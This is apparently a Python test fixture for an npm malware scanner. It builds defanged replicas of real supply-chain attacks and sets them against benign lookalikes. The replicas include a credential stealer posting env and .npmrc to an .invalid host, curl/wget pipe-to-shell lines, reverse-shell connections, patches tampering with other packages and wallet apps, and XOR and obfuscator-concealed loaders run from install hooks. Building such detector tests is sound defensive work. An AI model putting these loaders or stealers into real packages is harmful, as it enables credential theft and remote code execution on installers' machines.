"""Code hidden in strings and data (issue 10 item 6): JavaScript given to `node -e` by a spawn, written to
`.js` files, patched into other packages or applications, kept in data files and compiled, or hidden behind
decoders (XOR, reversed base64, javascript-obfuscator string arrays).

Defanged: hosts under `.invalid`, commands inert, nothing here can run or reach anyone. Each replica names
the real incident or shape it follows.
"""

from __future__ import annotations

import base64
import json

from tests.incidents.replica import PNG, Replica

_STEALER = (
    "const os=require('os'),fs=require('fs'),https=require('https');"
    "const d=JSON.stringify({h:os.hostname(),e:process.env,k:fs.readFileSync(os.homedir()+'/.npmrc','utf8')});"
    "const r=https.request({hostname:'collect.exfil.invalid',method:'POST',path:'/c'});r.end(d);"
)


def _xor(text: str, key: int) -> list[int]:
    return [ord(c) ^ key for c in text]


def _reversed_b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()[::-1]


def _obfuscator_b64(text: str) -> str:
    """javascript-obfuscator's `stringArrayEncoding: base64`: standard base64 with the letter cases swapped."""
    return base64.b64encode(text.encode()).decode().swapcase()


def _string_array_payload() -> str:
    """A javascript-obfuscator (classic, 2019–2022 output) file: string array, rotation IIFE, accessor."""
    strings = ["child_process", "exec", "curl -s http://203.0.113.9/stage2.sh | sh", "log", "done"]
    shift = 3  # the IIFE rotates left `shift` times, so the array is stored rotated right by `shift`
    stored = strings[-shift:] + strings[:-shift]
    array = ",".join(json.dumps(s) for s in stored)
    return (
        f"var _0x1a2b=[{array}];"
        "(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){"
        "_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b," + hex(shift) + "));"
        "var _0x4f5a=function(_0x1b2c,_0x3d4e){_0x1b2c=_0x1b2c-0x0;var _0x5f6a=_0x1a2b[_0x1b2c];return _0x5f6a;};"
        "var _0x6b7c=require(_0x4f5a('0x0'));_0x6b7c[_0x4f5a('0x1')](_0x4f5a('0x2'));"
        "console[_0x4f5a('0x3')](_0x4f5a('0x4'));\n"
    )


def _string_array_base64_payload() -> str:
    """The same with `stringArrayEncoding: ['base64']`: the accessor decodes each entry on first use."""
    strings = ["child_process", "exec", "curl -s http://203.0.113.9/stage2.sh | sh"]
    array = ",".join(json.dumps(_obfuscator_b64(s)) for s in strings)
    return (
        f"var _0x2b3c=[{array}];"
        "var _0x9d8e=function(_0x1f2a,_0x3b4c){_0x1f2a=_0x1f2a-0x0;var _0x5d6e=_0x2b3c[_0x1f2a];"
        "if(_0x9d8e['initialized']===undefined){(function(){var _0x1a=function(){var _0x2b;try{"
        "_0x2b=Function('return\\x20(function()\\x20'+'{}.constructor(\\x22return\\x20this\\x22)(\\x20)'+');')();"
        "}catch(_0x3c){_0x2b=window;}return _0x2b;};var _0x4d=_0x1a();"
        "var _0x5e='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';"
        "_0x4d['atob']||(_0x4d['atob']=function(_0x6f){var _0x7a=String(_0x6f)['replace'](/=+$/,'');"
        "for(var _0x8b=0x0,_0x9c,_0xad,_0xbe=0x0,_0xcf='';_0xad=_0x7a['charAt'](_0xbe++);~_0xad&&"
        "(_0x9c=_0x8b%0x4?_0x9c*0x40+_0xad:_0xad,_0x8b++%0x4)?_0xcf+=String['fromCharCode']"
        "(0xff&_0x9c>>(-0x2*_0x8b&0x6)):0x0){_0xad=_0x5e['indexOf'](_0xad);}return _0xcf;});}());"
        "_0x9d8e['base64DecodeUnicode']=function(_0x1e){var _0x2f=atob(_0x1e);var _0x3a=[];"
        "for(var _0x4b=0x0,_0x5c=_0x2f['length'];_0x4b<_0x5c;_0x4b++){_0x3a+='%'+('00'+_0x2f['charCodeAt']"
        "(_0x4b)['toString'](0x10))['slice'](-0x2);}return decodeURIComponent(_0x3a);};"
        "_0x9d8e['data']={};_0x9d8e['initialized']=!![];}var _0x6d=_0x9d8e['data'][_0x1f2a];"
        "if(_0x6d===undefined){_0x5d6e=_0x9d8e['base64DecodeUnicode'](_0x5d6e);_0x9d8e['data'][_0x1f2a]=_0x5d6e;}"
        "else{_0x5d6e=_0x6d;}return _0x5d6e;};"
        "require(_0x9d8e('0x0'))[_0x9d8e('0x1')](_0x9d8e('0x2'));\n"
    )


def _string_array_v2_payload() -> str:
    """javascript-obfuscator 2.x–4.x output (2021–2025, the shape most npm stealers ship): the array behind a
    self-replacing function, an accessor that replaces itself, and a rotation that turns the array until a
    parseInt checksum over some entries matches."""
    strings = [
        "child_process",
        "8412aBcD",
        "exec",
        "27fooBar",
        "curl -s http://203.0.113.9/v2.sh | sh",
        "5qux",
        "log",
    ]
    offset = 0x1A4
    terms = [(1, 1, 1), (3, -1, 2), (5, 1, 3)]  # (index, sign, divisor)

    def checksum(order: list[str]) -> float:
        total = 0.0
        for index, sign, divisor in terms:
            digits = ""
            for ch in order[index]:
                if not ch.isdigit():
                    break
                digits += ch
            if not digits:
                return float("nan")
            total += sign * int(digits) / divisor
        return total

    target = checksum(strings)
    shift = 4
    stored = strings[-shift:] + strings[:-shift]
    array = ",".join(json.dumps(s) for s in stored)
    expression = "+".join(
        f"{'-' if sign < 0 else ''}parseInt(_0xacc({hex(offset + index)}))/{hex(divisor)}"
        for index, sign, divisor in terms
    )
    return (
        f"function _0x5a1b(){{var _0x2c9d=[{array}];_0x5a1b=function(){{return _0x2c9d;}};return _0x5a1b();}}"
        "function _0x3f2e(_0x1a,_0x2b){var _0x3c=_0x5a1b();return _0x3f2e=function(_0x4d,_0x5e){"
        f"_0x4d=_0x4d-{hex(offset)};var _0x6f=_0x3c[_0x4d];return _0x6f;}},_0x3f2e(_0x1a,_0x2b);}}"
        "(function(_0xget,_0xtarget){var _0xacc=_0x3f2e,_0xarr=_0xget();while(!![]){try{"
        f"var _0xv={expression};if(_0xv===_0xtarget)break;else _0xarr['push'](_0xarr['shift']());}}"
        f"catch(_0xe){{_0xarr['push'](_0xarr['shift']());}}}}}}(_0x5a1b,{target!r}));"
        "(function(){const _0x9a=_0x3f2e;"
        f"require(_0x9a({hex(offset)}))[_0x9a({hex(offset + 2)})](_0x9a({hex(offset + 4)}));}})();\n"
    )


INCIDENTS: list[Replica] = [
    # Shape: 2024–2025 stealers (e.g. the "nodejs-smtp"/"ethers-mew" style droppers, Socket and Phylum
    # write-ups) that re-launch themselves as `node -e <payload>` detached so the install returns at once.
    Replica(
        "spawn-node-eval-stealer",
        {
            "install.js": (
                "const { spawn } = require('child_process');\n"
                f"const child = spawn(process.execPath, ['-e', {json.dumps(_STEALER)}], "
                "{ detached: true, stdio: 'ignore' });\nchild.unref();\n"
            )
        },
        "block",
        frozenset({"install-secrets-network"}),
        manifest={"scripts": {"postinstall": "node install.js"}},
    ),
    Replica(
        "execsync-node-eval-shell",
        {
            "setup.js": (
                "const cp = require('child_process');\n"
                "cp.execSync('node -e \"require(\\'child_process\\').exec(\\'curl -s http://203.0.113.5/x.sh | sh\\')\"');\n"
            )
        },
        "block",
        frozenset({"shell-fetch-and-run"}),
        manifest={"scripts": {"preinstall": "node setup.js"}},
    ),
    # Shape: droppers that write their stage two to a `.js` file next to themselves and require it
    # (Phylum 2024 "stage two written to disk" npm campaigns; the file is not in the tarball).
    Replica(
        "postinstall-writes-js-payload",
        {
            "postinstall.js": (
                "const fs = require('fs'); const path = require('path');\n"
                "const target = path.join(__dirname, 'lib', 'update.js');\n"
                f"fs.writeFileSync(target, {json.dumps(_STEALER)});\n"
                "require(target);\n"
            )
        },
        "block",
        frozenset({"install-secrets-network"}),
        manifest={"scripts": {"postinstall": "node postinstall.js"}},
    ),
    # ethers-provider2 / ethers-providers (ReversingLabs, March 2025): the postinstall located the installed
    # `ethers` package and rewrote its provider-jsonrpc.js with a reverse-shell loader.
    Replica(
        "ethers-provider2-patch",
        {
            "install.js": (
                "const fs = require('fs'); const path = require('path');\n"
                "const root = path.dirname(require.resolve('ethers'));\n"
                "const target = path.join(root, 'providers', 'provider-jsonrpc.js');\n"
                "const original = fs.readFileSync(target, 'utf8');\n"
                "const patch = \"\\n;(function(){const net=require('net');\"\n"
                "  + \"const s=net.connect(4444,'shell.example.invalid');})();\\n\";\n"
                "fs.writeFileSync(target, original + patch);\n"
            )
        },
        "block",
        frozenset({"tamper-other-package"}),
        manifest={"scripts": {"postinstall": "node install.js"}, "dependencies": {"ethers": "^6.13.0"}},
    ),
    Replica(
        "sibling-package-patch",
        {
            "index.js": (
                "const fs = require('fs'); const path = require('path');\n"
                "fs.appendFileSync(path.join(__dirname, '..', 'web3-utils', 'lib', 'index.js'),\n"
                "  \"\\nrequire('https').get('https://cdn.example.invalid/p.js');\\n\");\n"
            )
        },
        "block",
        frozenset({"tamper-other-package"}),
        manifest={"scripts": {"install": "node index.js"}},
    ),
    # The same patch done by the lifecycle script itself (shell cp over the other package's file).
    Replica(
        "shell-copies-over-other-package",
        {
            "patch/provider-jsonrpc.js": "module.exports = require('net').connect(4444, 'shell.example.invalid');\n"
        },
        "block",
        frozenset({"tamper-other-package"}),
        manifest={
            "scripts": {"postinstall": "cp patch/provider-jsonrpc.js ../ethers/lib.commonjs/providers/"}
        },
    ),
    # pdf-to-office (ReversingLabs, April 2025): replaced the app.asar of locally installed Atomic and
    # Exodus wallets with a build that swaps the recipient address.
    Replica(
        "pdf-to-office-app-asar",
        {
            "index.js": (
                "const fs = require('fs'); const path = require('path'); const os = require('os');\n"
                "const local = process.env.LOCALAPPDATA || path.join(os.homedir(), 'AppData', 'Local');\n"
                "const atomic = path.join(process.env.LOCALAPPDATA, 'Programs', 'atomic', 'resources', 'app.asar');\n"
                "function patch(asar, data) { if (fs.existsSync(asar)) fs.writeFileSync(asar, data); }\n"
                "fs.writeFileSync(atomic, Buffer.from('00', 'hex'));\n"
            )
        },
        "block",
        frozenset({"tamper-application"}),
        manifest={"scripts": {"postinstall": "node index.js"}},
    ),
    # 2024–2025: stage two kept in a `.d.ts` (or a `.txt`) that nobody reviews as code, read and eval'd.
    Replica(
        "eval-dts-payload",
        {
            "index.js": (
                "const fs = require('fs'); const path = require('path');\n"
                "eval(fs.readFileSync(path.join(__dirname, 'types.d.ts'), 'utf8'));\n"
            ),
            "types.d.ts": _STEALER,
        },
        "block",
        frozenset({"compiled-data-file", "credential-exfiltration"}),
        manifest={"scripts": {"postinstall": "node index.js"}},
    ),
    # Shape: payload appended to an image's tail (Checkmarx 2024 "stegano" npm loaders; the
    # steganography rule covers pixel-decoding, this is the simpler appended-text variant).
    Replica(
        "image-tail-payload",
        {
            "index.js": (
                "const fs = require('fs');\n"
                "const src = fs.readFileSync(__dirname + '/assets/logo.png').toString('latin1').slice(-400);\n"
                "new Function(src)();\n"
            ),
            "assets/logo.png": PNG + b"\x00IEND" + _STEALER.encode(),
        },
        "block",
        frozenset({"compiled-data-file"}),
        manifest={"main": "index.js"},
    ),
]

_XOR_KEY = 0x2A


def _xor_escaped(text: str) -> str:
    return "".join(f"\\x{code:02x}" for code in _xor(text, _XOR_KEY))


INCIDENTS += [
    # Shape: XOR string decoders in install scripts (2024 "xor loader" npm packages reported by Socket and
    # Phylum: every sensitive string passes through a `for` loop over charCodeAt ^ key).
    Replica(
        "xor-decoded-child-process",
        {
            "index.js": (
                "function d(s, k) { let o = ''; for (let i = 0; i < s.length; i++) "
                "{ o += String.fromCharCode(s.charCodeAt(i) ^ k); } return o; }\n"
                f"const m = require(d('{_xor_escaped('child_process')}', {_XOR_KEY}));\n"
                f"m[d('{_xor_escaped('exec')}', {_XOR_KEY})](d('{_xor_escaped('curl -s http://203.0.113.9/i.sh | sh')}', "
                f"{_XOR_KEY}));\n"
            )
        },
        "block",
        frozenset({"shell-fetch-and-run"}),
        manifest={"scripts": {"postinstall": "node index.js"}},
    ),
    # Shape: reversed base64 (`atob(s.split('').reverse().join(''))`), seen in 2024–2025 npm droppers.
    Replica(
        "reversed-base64-loader",
        {
            "index.js": (
                "const r = (s) => atob(s.split('').reverse().join(''));\n"
                f"require(r('{_reversed_b64('child_process')}'))"
                f"[r('{_reversed_b64('execSync')}')](r('{_reversed_b64('wget -qO- http://203.0.113.9/a | bash')}'));\n"
            )
        },
        "block",
        frozenset({"shell-fetch-and-run"}),
        manifest={"scripts": {"preinstall": "node index.js"}},
    ),
    # javascript-obfuscator output at install (the shape of many 2023–2025 npm stealers and of coa/rc's
    # compile.js): the string array hides `child_process`, `exec` and the download command.
    Replica(
        "obfuscator-string-array-install",
        {"setup.js": _string_array_payload()},
        "block",
        frozenset({"shell-fetch-and-run", "install-obfuscated"}),
        manifest={"scripts": {"postinstall": "node setup.js"}},
    ),
    Replica(
        "obfuscator-v2-checksum-rotation-install",
        {"setup.js": _string_array_v2_payload()},
        "block",
        frozenset({"shell-fetch-and-run"}),
        manifest={"scripts": {"postinstall": "node setup.js"}},
    ),
    Replica(
        "obfuscator-base64-string-array-install",
        {"setup.js": _string_array_base64_payload()},
        "block",
        frozenset({"shell-fetch-and-run"}),
        manifest={"scripts": {"install": "node setup.js"}},
    ),
]

BENIGN: list[Replica] = [
    # i18n tables and hashes: loops and XOR arithmetic over constants that decode to nothing dangerous.
    Replica(
        "i18n-xor-table",
        {
            "index.js": (
                "const CASE = [0x48, 0x45, 0x4c, 0x4c, 0x4f].map((c) => String.fromCharCode(c ^ 0x20)).join('');\n"
                "function hash(s) { let h = 5381; for (let i = 0; i < s.length; i++) { h = ((h << 5) + h) ^ "
                "s.charCodeAt(i); } return h >>> 0; }\n"
                "function shift(s, n) { let o = ''; for (let i = 0; i < s.length; i++) "
                "{ o += String.fromCharCode(s.charCodeAt(i) + n); } return o; }\n"
                "module.exports = { greeting: CASE, id: hash('locale-en'), rot: shift('abc', 1) };\n"
            )
        },
        "allow",
        frozenset(),
    ),
    # Template compilers build functions from the caller's template text (ejs, lodash.template shape).
    Replica(
        "template-compiler",
        {
            "index.js": (
                "function compile(template) {\n"
                "  let src = 'var out = [];\\n';\n"
                "  for (const part of template.split(/<%|%>/)) { src += 'out.push(' + JSON.stringify(part) + ');\\n'; }\n"
                "  return new Function('data', src + 'return out.join(\"\");');\n"
                "}\nmodule.exports = compile;\n"
            )
        },
        "allow",
        frozenset({"compiles-unresolved-code"}),
    ),
    # A code generator writing its own dist/ from a build script (never run at install).
    Replica(
        "codegen-writes-own-dist",
        {
            "scripts/build.js": (
                "const fs = require('fs'); const path = require('path');\n"
                "const out = path.join(__dirname, '..', 'dist', 'index.js');\n"
                "fs.mkdirSync(path.dirname(out), { recursive: true });\n"
                "fs.writeFileSync(out, \"'use strict';\\nmodule.exports = require('./impl');\\n\");\n"
            ),
            "index.js": "module.exports = require('./dist/index.js');\n",
        },
        "allow",
        frozenset(),
        manifest={"scripts": {"build": "node scripts/build.js"}},
    ),
    # esbuild's install.js shape: at install, writes its own binary path into its own lib/main.js.
    Replica(
        "installer-patches-own-files",
        {
            "install.js": (
                "const fs = require('fs'); const path = require('path');\n"
                "const main = path.join(__dirname, 'lib', 'main.js');\n"
                "const code = fs.readFileSync(main, 'utf8');\n"
                "const bin = path.join(__dirname, 'bin', 'tool');\n"
                "fs.writeFileSync(main, `var ESBUILD_BINARY_PATH = ${JSON.stringify(bin)};\\n${code}`);\n"
                "fs.copyFileSync(require.resolve('@tool/linux-x64/bin/tool'), bin);\n"
            ),
            "lib/main.js": "module.exports = {};\n",
        },
        "allow",
        frozenset({"install-script"}),
        manifest={
            "scripts": {"postinstall": "node install.js && cp bin/tool lib/tool && mkdir -p ../.cache"}
        },
    ),
    # A bundler's runtime global lookup and a template compiler: strings become code, harmlessly.
    Replica(
        "bundler-function-return-this",
        {
            "index.js": (
                "var g = (function () { return this; })() || Function('return this')();\n"
                "function compile(tpl) { return new Function('data', 'return `' + tpl + '`'); }\n"
                "module.exports = { g: g, compile: compile };\n"
            )
        },
        "allow",
        frozenset(),
    ),
    # A loader that compiles its own JS file (not a data file) with vm: not concealment.
    Replica(
        "vm-loads-own-js",
        {
            "index.js": (
                "const vm = require('vm'); const fs = require('fs'); const path = require('path');\n"
                "vm.runInThisContext(fs.readFileSync(path.join(__dirname, 'lib', 'shim.js'), 'utf8'));\n"
            ),
            "lib/shim.js": "globalThis.shimmed = true;\n",
        },
        "allow",
        frozenset(),
    ),
    # A tool spawning `node -e` with harmless code (feature probes do this).
    Replica(
        "node-eval-feature-probe",
        {
            "index.js": (
                "const { execFileSync } = require('child_process');\n"
                "const v = execFileSync(process.execPath, ['-p', 'process.versions.v8']).toString();\n"
                "module.exports = v;\n"
            )
        },
        "allow",
        frozenset(),
    ),
]

LOOKALIKES: dict[str, tuple[str, ...]] = {
    "shell-fetch-and-run": ("i18n-xor-table",),
    "tamper-other-package": ("installer-patches-own-files", "codegen-writes-own-dist"),
    "tamper-application": ("codegen-writes-own-dist",),
    "compiled-data-file": ("vm-loads-own-js", "bundler-function-return-this"),
}
